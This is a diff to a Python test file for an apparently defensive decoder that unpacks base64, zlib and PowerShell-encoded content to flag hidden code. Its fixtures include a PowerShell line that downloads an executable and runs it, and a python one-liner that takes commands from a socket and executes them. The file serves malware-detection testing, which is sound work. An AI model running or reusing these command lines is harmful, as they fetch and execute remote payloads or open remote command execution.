@@ -38,8 +38,8 @@ def noise(size: int) -> bytes:
     return random.Random(size).randbytes(size)
 
 
-def peeled(value: str | bytes, **options: int) -> Payload:
-    payload = peel(literal(value), budget=Budget(**options))
+def peeled(value: str | bytes, *, bytes_left: int = 10**7, depth_limit: int = 16) -> Payload:
+    payload = peel(literal(value), budget=Budget(bytes_left, depth_limit))
     assert payload is not None
     return payload
 
@@ -91,6 +91,7 @@ def test_content_is_kept_only_when_asked_for() -> None:
         ".button { color: #ff00aa; margin: 0 auto } a:hover { text-decoration: none }",
         "-" * 70,
         "a" * 64,
+        "a" * 5000,
         "x = 3, y = 4, z = 5",
         "1, 2, 3, 4, 5, 6, 7, 8, 9, 10",
         "127.0.0.1 255.255.255.0 10.0.0.1",
@@ -170,14 +171,16 @@ def test_python_source_is_looked_into() -> None:
         seen.append((content, depth))
         return Inside((child,), frozenset({"exec.dynamic"}))
 
-    payload = peel(literal(base64.b64encode(zlib.compress(PROGRAM))), budget=Budget(), look_inside=look_inside, depth=4)
+    hidden = literal(base64.b64encode(zlib.compress(PROGRAM)))
+    payload = peel(hidden, budget=Budget(), look_inside=look_inside, depth=4)
     assert payload is not None
     assert seen == [(PROGRAM, 7)]
-    assert (payload.children, payload.signals) == ((child,), {"exec.dynamic"})
+    assert payload.children == (child,)
+    assert payload.signals == {"exec.dynamic"}
 
 
 def test_encoded_runs_in_a_text_are_children_with_a_place() -> None:
-    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"
+    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; iex $env:TEMP\\a.exe"
     inner = base64.b64encode(script.encode("utf-16-le")).decode()
     text = f"first line\nnaïve powershell -NoProfile -EncodedCommand {inner} and so on\n"
     payload = peeled(base64.b64encode(text.encode()))
@@ -199,6 +202,12 @@ def test_encoded_runs_in_a_text_are_children_with_a_place() -> None:
 def test_a_run_that_a_command_decodes_may_be_short(text: str) -> None:
     payload = peeled(text.format(base64.b64encode(COMMAND).decode()))
     assert COMMAND in {child.preview for child in walk(payload)}
+
+
+def test_python_on_a_command_line_is_a_child() -> None:
+    text = "start /b python3 -c 'import os,socket;s=socket.socket();os.system(s.recv(99))' > nul"
+    (child,) = peeled(base64.b64encode(text.encode())).children
+    assert (child.final, child.column) == ("python-source", text.index("import") + 1)
 
 
 def walk(payload: Payload) -> list[Payload]:
@@ -296,6 +305,12 @@ def test_all_literals_share_the_budget() -> None:
     budget.spend(10**9)
     assert budget.bytes_left == 0
     assert peel(literal(base64.b64encode(PROGRAM)), budget=budget) is None
+
+
+def test_a_large_literal_of_unknown_bytes_leaves_budget_for_others() -> None:
+    budget = Budget(bytes_left=4_000_000)
+    assert peel(literal(base64.b64encode(noise(1_000_000))), budget=budget) is not None
+    assert budget.bytes_left >= 2_000_000
 
 
 def test_a_truncated_stream_keeps_its_head_and_says_so() -> None:
